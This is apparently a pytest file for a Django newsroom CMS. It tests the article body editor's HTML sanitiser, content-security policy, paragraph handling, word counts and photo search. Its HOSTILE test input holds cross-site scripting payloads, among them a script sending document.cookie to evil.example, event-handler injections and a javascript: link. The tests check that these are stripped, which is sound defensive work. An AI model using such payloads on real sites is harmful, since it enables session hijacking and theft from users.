"""The desk's body editor on the server: what it serves the browser, what it keeps of what the
browser sends (hostile HTML posted straight to the form), plain paragraphs, the word count and
the photo dialog's search."""

import base64
import hashlib
import importlib
import json
import re

import pytest
from django.apps import apps
from django.urls import reverse

from articles.models import Article
from articles.text import clean_body, reading_minutes, word_count

from .factories import ArticleFactory, PhotoFactory, SectionFactory, UserFactory, editor
from .page_html import Elements
from .test_admin import ADD, CHANGELIST, change_url, form_data, logged_in

pytestmark = pytest.mark.django_db
PHOTO_SEARCH = reverse("admin:articles_article_photo_search")

HOSTILE = (
    '<h2 style="color:red" onclick="steal()">Council votes</h2>'
    "<script>document.location='https://evil.example/'+document.cookie</script>"
    '<p class="MsoNormal" style="font-size:40px">The <b>council</b> voted '
    '<a href="javascript:alert(1)">here</a> and <a href="https://example.org/" target="_blank" '
    'onmouseover="x()">there</a>.</p>'
    '<img src="x" onerror="alert(1)">'
    '<figure data-photo="12 onload=alert(1)"><img src="/media/a.jpg"></figure>'
    '<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>'
    '<blockquote style="x">Quoted.</blockquote>'
)


def test_the_story_form_serves_the_editor_from_static_files(client):
    response = logged_in(client, editor()).get(ADD)

    textarea = next(a for a in Elements(response.text).all("textarea") if a["name"] == "body")
    config = json.loads(textarea["data-django-prose-editor-configurable"])
    assert config["js_modules"] == ["/static/js/admin/body-editor.js"]
    assert config["extensions"]["Heading"] == {"levels": [2, 3]}
    assert config["extensions"]["BodyPhoto"] == {"searchUrl": PHOTO_SEARCH}
    assert "NoSpellCheck" not in config["extensions"]
    scripts = [a.get("src") for a in Elements(response.text).all("script") if a.get("src")]
    assert "/static/django_prose_editor/editor.js" in scripts
    assert "/static/js/admin/word-count.js" in scripts
    assert not [src for src in scripts if not src.startswith("/")]  # nothing from elsewhere


def test_the_import_map_is_the_only_inline_script_and_is_allowed_by_its_hash(client):
    response = logged_in(client, editor()).get(ADD)

    inline = [a for a in Elements(response.text).all("script") if not a.get("src")]
    assert [a.get("type") for a in inline] == ["importmap"]
    script_src = next(
        part.split()[1:]
        for part in response["Content-Security-Policy"].split(";")
        if part.split()[0] == "script-src"
    )
    import_map = re.search(r'<script type="importmap">(.*?)</script>', response.text, re.S)[1]
    digest = base64.b64encode(hashlib.sha256(import_map.encode()).digest()).decode()
    assert script_src == ["'self'", f"'sha256-{digest}'"]


def test_hostile_html_posted_to_the_form_is_cleaned(client):
    logged_in(client, editor())
    data = form_data(headline="Council votes", slug="council-votes", body=HOSTILE)

    response = client.post(ADD, data)

    assert response.status_code == 302
    body = Article.objects.get(slug="council-votes").body
    gone = "script onclick onerror onmouseover onload javascript: style class= iframe evil target="
    for hostile in gone.split():
        assert hostile not in body, hostile
    assert body.startswith("<h2>Council votes</h2><p>The <b>council</b> voted <a")
    assert '<a href="https://example.org/" rel="noopener noreferrer">there</a>' in body
    assert '<figure><img src="/media/a.jpg"></figure>' in body  # not a photo id: dropped
    assert "<blockquote>Quoted.</blockquote>" in body


def test_hostile_html_in_an_edit_of_a_published_story_is_cleaned(client):
    article = ArticleFactory()
    logged_in(client, editor())

    client.post(change_url(article), form_data(article, body=HOSTILE, _publish="Save and publish"))

    article.refresh_from_db()
    assert "script" not in article.body and "onerror" not in article.body
    assert "<h2>Council votes</h2>" in article.body


@pytest.mark.parametrize(
    ("typed", "stored"),
    [
        ("First paragraph.\n\nSecond, with <b>bold\n\nacross</b> lines.\n",
         "<p>First paragraph.</p><p>Second, with <b>bold</b></p><p><b>across</b> lines.</p>"),
        ("One line.\nAnother line.", "<p>One line.</p><p>Another line.</p>"),
        ("A line\nwrapped.\n\nThen another.", "<p>A line\nwrapped.</p><p>Then another.</p>"),
        ("<p>Kept as written.</p>\n\n<p>Really.</p>", "<p>Kept as written.</p>\n\n<p>Really.</p>"),
        ("<h2>Heading</h2>\nText after it.", "<h2>Heading</h2>\nText after it."),
        ("<p></p>", ""),
        ("<p>Text.</p><p><br></p><p></p>", "<p>Text.</p>"),
        ("", ""),
        ('<p><a href="https://example.org" title="">link</a></p>',
         '<p><a href="https://example.org" rel="noopener noreferrer">link</a></p>'),
    ],
)  # fmt: skip
def test_plain_paragraphs_become_paragraph_elements(typed, stored):
    assert clean_body(typed) == stored


def test_a_body_saved_as_plain_lines_shows_as_paragraphs(client):
    article = ArticleFactory(body="The board met Monday.\n\nIt meets again Tuesday.", dateline="")

    page = client.get(article.get_absolute_url()).text

    assert "<p>The board met Monday.</p><p>It meets again Tuesday.</p>" in page


def test_stored_plain_bodies_are_given_paragraphs_by_the_migration():
    article = ArticleFactory()
    other = ArticleFactory(body="<p>Already fine.</p>")
    Article.objects.filter(pk=article.pk).update(body="Line one.\n\nLine two.")
    migration = importlib.import_module("articles.migrations.0014_body_plain_paragraphs")

    migration.paragraphs(apps, None)

    article.refresh_from_db()
    other.refresh_from_db()
    assert article.body == "<p>Line one.</p><p>Line two.</p>"
    assert other.body == "<p>Already fine.</p>"


def test_word_count_and_reading_time():
    body = (
        "<h2>Vote set</h2><p>The <em>board</em> of selectmen met.</p>"
        "<ul><li>Roads</li><li>Schools&nbsp;too</li></ul>"
    )
    assert word_count(body) == 2 + 5 + 1 + 2
    assert word_count("<p>one</p><p>two</p>") == 2
    assert word_count("") == 0
    assert [reading_minutes(n) for n in (0, 1, 230, 231, 1000)] == [0, 1, 1, 2, 5]


def test_the_form_and_the_story_list_show_the_length(client):
    article = ArticleFactory(body="<p>" + "word " * 461 + "</p>", headline="Long read")
    logged_in(client, editor())

    form = client.get(change_url(article)).text
    listing = client.get(CHANGELIST).text

    assert "461 words, about 3 minutes to read</output>" in form
    assert '<td class="field-words">461</td>' in listing


def test_photo_search_finds_photos_with_a_file_by_caption_or_credit(client):
    harbor = PhotoFactory(caption="Boats in the harbor at dawn", credit="Dana Whitfield")
    PhotoFactory(caption="Town hall", credit="Ben Okafor")
    PhotoFactory(image="", caption="Harbor, file still to come")
    logged_in(client, editor())

    by_caption = client.get(PHOTO_SEARCH, {"q": "HARBOR dawn"}).json()["photos"]
    by_credit = client.get(PHOTO_SEARCH, {"q": "whitfield"}).json()["photos"]
    everything = client.get(PHOTO_SEARCH).json()["photos"]

    assert [photo["id"] for photo in by_caption] == [harbor.pk]
    assert by_caption == by_credit
    assert by_caption[0] | {"thumbnail": ""} == {
        "id": harbor.pk,
        "src": harbor.image.url,
        "width": 64,
        "height": 48,
        "alt": harbor.alt_text,
        "caption": "Boats in the harbor at dawn",
        "credit": "Dana Whitfield / Newsroom staff",
        "thumbnail": "",
    }
    assert len(everything) == 2


def test_photo_search_needs_the_photo_library(client):
    logged_in(client, UserFactory())  # staff, but no permissions

    assert client.get(PHOTO_SEARCH).status_code == 403
    client.logout()
    assert client.get(PHOTO_SEARCH).status_code == 302  # to the sign-in page


def test_a_body_photo_placed_in_the_editor_shows_as_the_lead_photo_does(client):
    photo = PhotoFactory(caption="Boats in the harbor", credit="Dana Whitfield")
    logged_in(client, editor())
    placed = (
        f'<p>Before.</p><figure data-photo="{photo.pk}"><img src="{photo.image.url}" alt="" '
        'width="64" height="48"></figure><p>After.</p>'
    )
    data = form_data(headline="Harbor", slug="harbor", body=placed, status="published")
    data["section"] = SectionFactory().pk

    client.post(ADD, data)

    page = client.get(Article.objects.get(slug="harbor").get_absolute_url()).text
    assert '<figure class="photo photo--inline"' in page
    assert "Boats in the harbor" in page and "Dana Whitfield" in page
